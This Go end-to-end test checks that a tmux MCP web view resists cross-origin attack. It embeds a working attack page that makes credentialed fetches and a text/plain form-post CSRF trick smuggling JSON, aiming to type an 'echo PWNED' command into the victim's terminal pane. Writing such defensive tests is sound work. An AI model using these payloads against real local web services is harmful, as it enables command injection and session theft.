package view_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/tmux-mcp/tmux-mcp/internal/e2etest"
	"github.com/tmux-mcp/tmux-mcp/tmux/tmuxtest"
	"github.com/tmux-mcp/tmux-mcp/view/browsertest"
)

// Another local user's web server, on a loopback port of its own: what
// the victim's browser sends it once the victim opens one of its pages
// (a link in a chat or a terminal is enough). It runs as a child of the
// test, as another uid where the test runs as root: the test binary
// itself, started with otherWebEnv set (see TestMain). It serves an
// attack page at /view/attack (under /view/, where the cookie the view
// once set was sent) that tries everything a page can against the view,
// and prints one JSON line for every request it receives, before it
// answers.

// The other server's settings, in its environment.
const (
	otherWebEnv    = "TMUX_MCP_OTHER_WEB_VIEW"   // the view's base URL, http://127.0.0.1:PORT
	otherWebTarget = "TMUX_MCP_OTHER_WEB_TARGET" // the input it tries to send: JSON {server, pane, text, enter}
)

// otherRequest is one request the other server received.
type otherRequest struct {
	Method string      `json:"method"`
	URI    string      `json:"uri"`
	Header http.Header `json:"header"`
	Body   string      `json:"body"`
}

// otherAttackPage is the other server's page. It reads what its own
// origin keeps (cookies, storage), then tries the view: the stream and
// the input by fetch with credentials (CORS and no-cors), a renewal, and
// a form post into a frame; it reports each outcome to its own server.
const otherAttackPage = `<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<form id="f" method="post" enctype="text/plain" target="sink"><input id="fi"></form>
<script>
const view = %s, input = %s;
const out = {cookie: document.cookie, storage: JSON.stringify(Object.assign({}, localStorage)), session: JSON.stringify(Object.assign({}, sessionStorage))};
const body = JSON.stringify(input);
const tries = {
  stream: () => fetch(view + "/view/stream", {credentials: "include"}).then(r => r.status + " " + r.type),
  stream_no_cors: () => fetch(view + "/view/stream", {credentials: "include", mode: "no-cors"}).then(r => r.type),
  input: () => fetch(view + "/view/input", {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body}).then(r => r.status + " " + r.type),
  input_no_cors: () => fetch(view + "/view/input", {method: "POST", credentials: "include", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body}).then(r => r.type),
  renew: () => fetch(view + "/view/renew", {method: "POST", credentials: "include"}).then(r => r.status + " " + r.type),
  form: () => new Promise(done => {
    // text/plain sends name=value: the name carries the JSON up to a
    // last field that swallows the "=".
    const f = document.getElementById("f"), fi = document.getElementById("fi");
    f.action = view + "/view/input";
    fi.name = body.slice(0, -1) + ', "x": "';
    fi.value = '"}';
    document.getElementById("sink").onload = () => done("loaded");
    setTimeout(() => done("no load event"), 5000);
    f.submit();
  }),
};
(async () => {
  for (const [name, run] of Object.entries(tries)) {
    try { out[name] = await run(); } catch (e) { out[name] = "error: " + e; }
  }
  await fetch("/view/report", {method: "POST", body: JSON.stringify(out)});
})();
</script></body></html>`

// runOtherWeb is the child's main: it listens on a loopback port, prints
// "listening ADDR", then a JSON line per request until its stdin closes.
func runOtherWeb(view string) int {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Fprintln(os.Stderr, "other web server:", err)
		return 1
	}
	viewJS, _ := json.Marshal(view)
	page := fmt.Sprintf(otherAttackPage, viewJS, os.Getenv(otherWebTarget))
	var mu sync.Mutex
	fmt.Printf("listening %s\n", ln.Addr())
	go func() {
		io.Copy(io.Discard, os.Stdin) //nolint:errcheck // EOF or error: stop either way
		mu.Lock()                     // let a line being written finish
		os.Exit(0)
	}()
	err = http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		line, _ := json.Marshal(otherRequest{Method: r.Method, URI: r.RequestURI, Header: r.Header, Body: string(body)})
		mu.Lock()
		os.Stdout.Write(append(line, '\n')) //nolint:errcheck // the test reads it or is gone
		mu.Unlock()
		if r.URL.Path == "/view/attack" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, page) //nolint:errcheck // the browser went away
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	fmt.Fprintln(os.Stderr, "other web server:", err)
	return 1
}

// otherWeb is the running other server, seen from the test.
type otherWeb struct {
	url   string // http://127.0.0.1:PORT
	mu    sync.Mutex
	reqs  []otherRequest
	stdin io.Closer
}

// startOtherWeb runs the other server aiming at the view at base, with
// the input it tries; as uid e2etest.OtherUID when the test runs as root.
func startOtherWeb(t *testing.T, base string, input map[string]any) *otherWeb {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	target, _ := json.Marshal(input)
	cmd := exec.Command(self)
	cmd.Env = []string{"PATH=/usr/bin:/bin", otherWebEnv + "=" + base, otherWebTarget + "=" + string(target)}
	if os.Getuid() == 0 {
		// A copy the other uid can run, in a directory it cannot write.
		dir, err := os.MkdirTemp("", "otherweb")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		e2etest.Chmod(t, dir, 0o755)
		cmd.Path = filepath.Join(dir, "other")
		e2etest.CopyExecutable(t, cmd.Path)
		cmd.Dir = dir
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: e2etest.OtherUID, Gid: e2etest.OtherUID}}
	}
	cmd.Stderr = os.Stderr
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start the other web server: %v", err)
	}
	o := &otherWeb{stdin: stdin}
	t.Cleanup(func() {
		stdin.Close()
		cmd.Process.Kill() //nolint:errcheck // our child; it may have exited
		cmd.Wait()         //nolint:errcheck // its status does not matter here
	})
	sc := bufio.NewScanner(stdout)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	if !sc.Scan() || !strings.HasPrefix(sc.Text(), "listening ") {
		t.Fatalf("the other web server did not listen: %q", sc.Text())
	}
	o.url = "http://" + strings.TrimPrefix(sc.Text(), "listening ")
	go func() {
		for sc.Scan() {
			var r otherRequest
			if json.Unmarshal(sc.Bytes(), &r) == nil {
				o.mu.Lock()
				o.reqs = append(o.reqs, r)
				o.mu.Unlock()
			}
		}
	}()
	return o
}

// requests returns what the other server received so far.
func (o *otherWeb) requests() []otherRequest {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]otherRequest(nil), o.reqs...)
}

// report waits for the attack page's report and returns it.
func (o *otherWeb) report(t *testing.T) otherRequest {
	t.Helper()
	var rep otherRequest
	tmuxtest.WaitFor(t, 30*time.Second, "the other page's report", func() bool {
		for _, r := range o.requests() {
			if r.URI == "/view/report" {
				rep = r
				return true
			}
		}
		return false
	})
	return rep
}

// TestViewCredentialOtherPort is issue 42's attack on the view's sign-in,
// through the built binary in chromium: the victim signs in to the view
// (at --view-input, so that the view can type), then opens a page that
// another local user serves on another loopback port (as uid 4001 where
// the test runs as root). Nothing that server receives holds the token,
// the view's credential or a cookie of the view; what it received,
// replayed as curl would, reads no stream and types nothing; and its page
// (fetch with credentials, CORS or not, a renewal, a form post) reads no
// stream and types nothing into the pane.
func TestViewCredentialOtherPort(t *testing.T) {
	v := startViewServer(t, "--view-input", "--safety", "destructive")
	target := strings.Fields(v.tm.MustTmux("list-panes", "-t", "build", "-F", "#{pane_id}"))[1]
	typed := map[string]any{"server": v.tm.Socket, "pane": target, "text": "echo PWNED-$((6*7))", "enter": true}
	other := startOtherWeb(t, v.base, typed)

	ctx := browsertest.New(t, 1300, 900)
	if err := chromedp.Do(ctx, chromedp.Navigate(v.base+"/view/login#token="+url.QueryEscape(v.p.Token))); err != nil {
		t.Fatal(err)
	}
	waitPage(t, ctx, 15*time.Second, "signed in, 12 panes drawn", paneCount+` === 12`)
	// What the view's origin keeps: the credential is among it.
	var kept map[string]string
	if err := json.Unmarshal([]byte(eval[string](t, ctx, `JSON.stringify(Object.assign({}, localStorage, sessionStorage))`)), &kept); err != nil {
		t.Fatal(err)
	}
	secrets := []string{v.p.Token, "tmux_mcp_view"}
	for _, val := range kept {
		var c struct {
			C string `json:"c"`
		}
		if json.Unmarshal([]byte(val), &c) == nil && c.C != "" {
			secrets = append(secrets, c.C)
		}
	}

	// The victim opens the other user's page in a second tab; the view
	// stays open in the first.
	tab, cancel := chromedp.NewContext(ctx)
	defer cancel()
	if err := chromedp.Do(tab, chromedp.Navigate(other.url+"/view/attack")); err != nil {
		t.Fatal(err)
	}
	rep := other.report(t)
	t.Logf("the other page's tries: %s", rep.Body)

	reqs := other.requests()
	for _, r := range reqs {
		all, _ := json.Marshal(r)
		for _, s := range secrets {
			if strings.Contains(string(all), s) {
				t.Errorf("the other server received a credential of the view (%.12s...) in %s %s: %s", s, r.Method, r.URI, all)
			}
		}
		for _, h := range []string{"Cookie", "Authorization"} {
			if got := r.Header.Get(h); got != "" {
				t.Errorf("the other server received %s: %q with %s %s", h, got, r.Method, r.URI)
			}
		}
	}

	// Replayed as curl would (no Origin, no browser): whatever it
	// received, and nothing at all.
	hc := &http.Client{Timeout: 10 * time.Second}
	replays := []http.Header{{}}
	for _, r := range reqs {
		h := http.Header{}
		for _, name := range []string{"Cookie", "Authorization"} {
			if val := r.Header.Get(name); val != "" {
				h.Set(name, val)
			}
		}
		if len(h) > 0 {
			replays = append(replays, h)
		}
	}
	for _, h := range replays {
		req, _ := http.NewRequest(http.MethodGet, v.base+"/view/stream", nil)
		req.Header = h.Clone()
		resp, err := hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("the stream with %v: %d, want 401", h, resp.StatusCode)
		}
		body, _ := json.Marshal(typed)
		req, _ = http.NewRequest(http.MethodPost, v.base+"/view/input", strings.NewReader(string(body)))
		req.Header = h.Clone()
		req.Header.Set("Content-Type", "application/json")
		if resp, err = hc.Do(req); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("the input with %v: %d, want 401", h, resp.StatusCode)
		}
	}

	// Keys reach a pane in order: once a line typed now has run, any
	// typed before it has too.
	v.tm.MustTmux("send-keys", "-t", target, "echo BARRIER-$((2*3))", "Enter")
	tmuxtest.WaitFor(t, 10*time.Second, "the barrier line to run", func() bool {
		return strings.Contains(v.tm.MustTmux("capture-pane", "-p", "-t", target), "BARRIER-6")
	})
	if got := v.tm.MustTmux("capture-pane", "-p", "-S", "-", "-t", target); strings.Contains(got, "PWNED") {
		t.Errorf("the other user typed into the victim's pane:\n%s", got)
	}
}
